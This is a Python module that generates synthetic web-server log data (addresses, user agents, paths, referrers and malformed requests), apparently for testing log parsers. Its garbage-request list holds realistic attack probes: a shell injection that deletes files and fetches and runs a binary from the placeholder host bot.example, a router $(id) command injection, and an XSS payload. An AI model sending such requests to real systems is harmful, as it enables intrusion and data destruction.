"""What the invented site of the measured logs has: clients, pages, programs, referrers, and garbage.

All of it is invented and drawn from a fixed seed. Addresses are drawn evenly from large public blocks, so
that a City database knows places for most; they accuse nobody. Shares are those of a busy public site:
popularity falls as 1/rank, and one request line in three is like no other.
"""

from __future__ import annotations

import ipaddress
import json
from dataclasses import dataclass

import numpy as np
import pyarrow as pa

__all__ = ["Pool", "Pools", "client_addresses", "make_pools", "networks"]

# First octets of blocks that registries handed out to providers; the excluded are special or military.
_BLOCKS_V4 = (
    *(1, 2, 3, 4, 5, 12, 13, 14, 18, 20, 23, 24, 27, 31, 34, 36, 37, 38, *range(41, 53), 54),
    *(*range(57, 100), *range(101, 127), *range(128, 169), 170, 171, *range(173, 192)),
    *(193, 194, 195, 196, 197, *range(199, 203), *range(204, 214), *range(216, 224)),
)
# Large allocations of providers: Deutsche Telekom, Free, Comcast, China Mobile, China Telecom, HiNet, OCN,
# Telefonica.
_BLOCKS_V6 = ("2003::/19", "2a01:e00::/26", "2601::/20", "2409:8000::/20", "240e::/20", "2001:b000::/20")
_BLOCKS_V6 += ("2400:4000::/22", "2a02:9000::/23")
_SHARE_V6 = 0.08

_WORDS = """
about account archive article audio basket blog book browse camera cart catalog category chapter
city client cloud comment company contact content country course cover credit daily data design
detail digital document download editor event family feature feed festival film forum frame gallery
game garden group guide health help history home image index info item journal kitchen language
latest letter library light list live local login map market media member message mobile model month
movie museum music network news notice office offer order page paper partner people photo picture
place player policy post press price print privacy product profile project public question radio
rating recipe record region release report review river room sale scene school science search season
section series service session setting shop show sign single site song sound source sport stage
start station status store story street studio style summer support system tag team terms test theme
ticket title topic tour town trade trailer travel update upload user video view visit voice weather
week winter world writer year
""".split()  # noqa: SIM905 -- a page of quotes and commas otherwise
_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "AhrefsSiteAudit/6.1",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "Wget/1.21.4",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "-",
)
_SYSTEMS = (
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "Linux; Android 13; SM-A536B",
    "Linux; Android 14; Pixel 7",
    "Linux; Android 10; K",
    "iPhone; CPU iPhone OS 17_2 like Mac OS X",
    "iPad; CPU OS 16_6 like Mac OS X",
)
_APPS = (
    "okhttp/4.{1}.{2}",
    "FilmsApp/{0}.{1}.{2} CFNetwork/1410.0.3 Darwin/22.6.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A{2} Build/TP1A.{2})",
    "VLC/3.0.{1} LibVLC/3.0.{1} ({2})",
    "AppleCoreMedia/1.0.0.{0}C{2} (Apple TV; U; CPU OS 17_2 like Mac OS X; en_us)",
    "Roku/DVP-{0}.{1} ({0}.{1}.0.{2}-46)",
    "axios/1.{1}.{2}",
)
# TLS to a plain port, probes, quotes, blanks, bytes that are no text, and no request at all (status 408).
_GARBAGE = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    b'GET /shell?cd+/tmp;rm+-rf+*;wget "http://bot.example/arm7";sh+arm7 HTTP/1.1',
    b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1",
    b"GET /search?q=\xe4\xbd\xa0\xe5\xa5\xbd \xe4\xb8\x96\xe7\x95\x8c HTTP/1.1",
    b'POST /index.php?s=\\"><script>alert(1)</script> HTTP/1.1',
    b"\x05\x01\x00",
    b"OPTIONS * HTTP/1.0",
    b"CONNECT mail.example:443 HTTP/1.1",
    b"GET http://proxy.example/judge.php HTTP/1.1",
    b"SSH-2.0-Go",
    b"quit",
)


@dataclass(frozen=True, slots=True)
class Pool:
    """Values, and a table from an even draw to an index, so that popularity falls as 1/rank."""

    values: pa.Array
    cumulative: np.ndarray

    def draw(self, rng: np.random.Generator, count: int) -> np.ndarray:
        """Indexes of ``count`` values."""
        return np.searchsorted(self.cumulative, rng.random(count), side="right")


@dataclass(frozen=True, slots=True)
class Pools:
    """Everything that lines are drawn from; ``client_agent`` is the program of each client."""

    clients: Pool
    client_agent: np.ndarray
    agents: Pool
    agents_json: pa.Array
    agents_raw: pa.Array
    agents_plus: pa.Array
    stems: Pool
    queries: pa.Array  # beside each stem; empty: none
    unique_before: Pool
    referrers: Pool
    garbage: pa.Array
    garbage_json: pa.Array


def make_pools(*, clients: int, seed: int) -> Pools:
    """All pools for a log of so many clients."""
    rng = np.random.default_rng([seed, 0])
    agents = _agents(rng)
    stems = _stems(rng, 40_000)
    agent_pool = _pool([_apache(text.encode()) for text in agents])
    robots = len(_BOTS)
    return Pools(
        clients=_pool(client_addresses(clients, seed=seed)),
        # Robots are few clients and stand among the popular ones.
        client_agent=np.where(
            rng.random(clients) < 0.2,
            rng.integers(0, robots, clients),
            robots + _zipf(len(agents) - robots).searchsorted(rng.random(clients), side="right"),
        ),
        agents=agent_pool,
        agents_json=pa.array([_json(text.encode()) for text in agents], pa.binary()),
        agents_raw=pa.array([text.encode() for text in agents], pa.binary()),
        agents_plus=pa.array([text.replace(" ", "+") for text in agents]).cast(pa.binary()),
        stems=_pool(stems),
        queries=pa.array(_queries(rng, stems)).cast(pa.binary()),
        unique_before=_pool(_unique_before(rng)),
        referrers=_pool(_referrers(rng, stems), first=0.7),
        garbage=pa.array([_apache(text) for text in _GARBAGE] + [b"-"], pa.binary()),
        garbage_json=pa.array([_json(text) for text in _GARBAGE] + [b""], pa.binary()),
    )


def client_addresses(count: int, *, seed: int) -> list[str]:
    """Distinct addresses, the most active client's first; one in twelve is IPv6."""
    rng = np.random.default_rng([seed, 4])
    many = round(count * _SHARE_V6)
    texts: dict[str, None] = {}
    while len(texts) < count - many:
        heads, tails = rng.choice(_BLOCKS_V4, count), rng.integers(1, 1 << 24, count)
        for head, tail in zip(heads.tolist(), tails.tolist(), strict=True):
            texts[f"{head}.{tail >> 16}.{tail >> 8 & 255}.{tail & 255}"] = None
            if len(texts) == count - many:
                break
    blocks = [ipaddress.IPv6Network(block) for block in _BLOCKS_V6]
    while len(texts) < count:
        block = blocks[int(rng.integers(len(blocks)))]
        network = int(rng.integers(1 << (64 - block.prefixlen))) << 64
        number = int(block.network_address) + network + int(rng.integers(1, 1 << 62))
        texts[str(ipaddress.IPv6Address(number))] = None
    found = np.array(list(texts), dtype=object)
    return found[rng.permutation(count)].tolist()


def networks(rng: np.random.Generator, count: int, clients: list[str]) -> list[str]:
    """Networks as lists publish them: up to one in eight around a client of the log."""
    around = rng.permutation(len(clients))[: count // 8].tolist()
    near = [
        ipaddress.ip_network((clients[row], 48 if ":" in clients[row] else 24), strict=False)
        for row in around
    ]
    texts = dict.fromkeys(map(str, near))
    while len(texts) < count:
        heads, tails = rng.choice(_BLOCKS_V4, count), rng.integers(1, 1 << 24, count)
        prefixes = rng.choice((20, 22, 24, 24, 24, 27, 29, 32, 32, 32), count)
        for head, tail, prefix in zip(heads.tolist(), tails.tolist(), prefixes.tolist(), strict=True):
            number = (head << 24 | tail) >> (32 - prefix) << (32 - prefix)
            texts[str(ipaddress.IPv4Network((number, prefix)))] = None
            if len(texts) == count:
                break
    return list(texts)


def _zipf(count: int, first: float = 0.0) -> np.ndarray:
    """Cumulative shares of 1/rank; ``first``: the share of the first, when it stands out."""
    weights = 1 / np.arange(1, count + 1)
    if first:
        weights[0] = 0
        weights *= (1 - first) / weights.sum()
        weights[0] = first
    shares: np.ndarray = np.cumsum(weights / weights.sum())
    shares[-1] = 1.0
    return shares


def _pool(values: list[str] | list[bytes], first: float = 0.0) -> Pool:
    held = pa.array([value.encode() if isinstance(value, str) else value for value in values], pa.binary())
    return Pool(held, _zipf(len(values), first))


def _agents(rng: np.random.Generator) -> list[str]:
    """About 2,500 programs; the first are robots, one in a thousand has quotes in its name."""
    texts = dict.fromkeys(_BOTS)
    for number in rng.permutation(3_000).tolist():
        system = _SYSTEMS[number % len(_SYSTEMS)]
        major = 90 + number % 31
        # Browsers hide their minor versions since 2022; older ones and applications do not.
        version = (
            f"{major}.0.0.0" if major > 105 and number % 3 else f"{major}.0.{4000 + number}.{number % 200}"
        )
        if number % 3 == 1:
            text = _APPS[number % len(_APPS)].format(major, number % 10, number)
        elif "like Mac" in system:
            safari = f"Version/{13 + number % 5}.{number % 8} Mobile/{15 + number % 6}E{number % 400}"
            text = f"Mozilla/5.0 ({system}) AppleWebKit/605.1.15 (KHTML, like Gecko) {safari} Safari/604.1"
        elif number % 7 == 0:
            text = f"Mozilla/5.0 ({system}; rv:{major}.0) Gecko/20100101 Firefox/{major}.{number % 13}"
        else:
            mobile = " Mobile" if "Android" in system else ""
            edge = f" Edg/{version}" if number % 11 == 0 else ""
            chrome = f"Chrome/{version}{mobile} Safari/537.36{edge}"
            text = f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) {chrome}"
        texts[text if number % 1000 else f'Player "Nine" {text}'] = None
    return list(texts)


def _stems(rng: np.random.Generator, count: int) -> list[str]:
    """Paths: the front page, pages in folders, pictures, scripts, films."""
    texts = dict.fromkeys(("/", "/robots.txt", "/favicon.ico", "/index.html"))
    endings = ("", "/", ".html", ".jpg", ".png", ".css", ".js", ".webp", ".mov", ".pdf", ".woff2", ".json")
    while len(texts) < count:
        depth, numbers = int(rng.integers(0, 3)), rng.integers(0, 1 << 20, 6).tolist()
        folders = "".join(f"/{_WORDS[number % len(_WORDS)]}" for number in numbers[:depth])
        name = f"{_WORDS[numbers[4] % len(_WORDS)]}-{numbers[5] % 5000}"
        texts[f"{folders}/{name}{endings[numbers[4] % len(endings)]}"] = None
    return list(texts)


def _queries(rng: np.random.Generator, stems: list[str]) -> list[str]:
    """The query that goes with a path; scripts and styles carry versions, one page in five has others."""
    numbers = rng.integers(0, 1000, len(stems)).tolist()
    texts = []
    for stem, number in zip(stems, numbers, strict=True):
        if stem.endswith((".js", ".css")):
            texts.append(f"v=1.{number % 30}.{number % 7}")
        elif number % 5 == 0 and "." not in stem:
            texts.append(f"page={number}&sort={_WORDS[number % len(_WORDS)]}&lang=en")
        else:
            texts.append("")
    return texts


def _unique_before(rng: np.random.Generator) -> list[str]:
    """``stem?query`` up to the token that makes the request like no other."""
    words = rng.permutation(len(_WORDS)).tolist()
    texts = [
        "/search?lang=en&q=film+festival&session=",
        "/api/v2/items?limit=50&cursor=",
        "/media/thumb.jpg?w=320&h=240&sig=",
        "/collect?tid=UA-1-1&dl=https%3A%2F%2Ffilms.example%2F&cid=",
        "/login?return=%2Faccount%2Forders&csrf=",
    ]
    texts += [f"/{_WORDS[a]}/{_WORDS[b]}?ref={_WORDS[b]}&id=" for a, b in zip(words, words[7:], strict=False)]
    return texts


def _referrers(rng: np.random.Generator, stems: list[str]) -> list[str]:
    """None first, then pages of the site, then others."""
    own = [f"https://films.example{stems[row]}" for row in rng.permutation(4_000).tolist()]
    others = [f"https://www.{word}.example/search?q={word}+films" for word in _WORDS]
    return ["-", *own, *others, "https://www.google.com/", "https://duckduckgo.com/", "https://t.co/"]


def _apache(text: bytes) -> bytes:
    r"""Apache's escapes since 2.0.46: quotes, backslashes, and as ``\xHH`` what is no printable ASCII."""
    return b"".join(
        b"\\" + bytes((byte,))
        if byte in b'"\\'
        else bytes((byte,))
        if 32 <= byte < 127
        else b"\\x%02x" % byte
        for byte in text
    )


def _json(text: bytes) -> bytes:
    """What escape=json of nginx does: quotes and controls; other bytes stay, UTF-8 or not."""
    return b"".join(json.dumps(chr(byte))[1:-1].encode() if byte < 128 else bytes((byte,)) for byte in text)
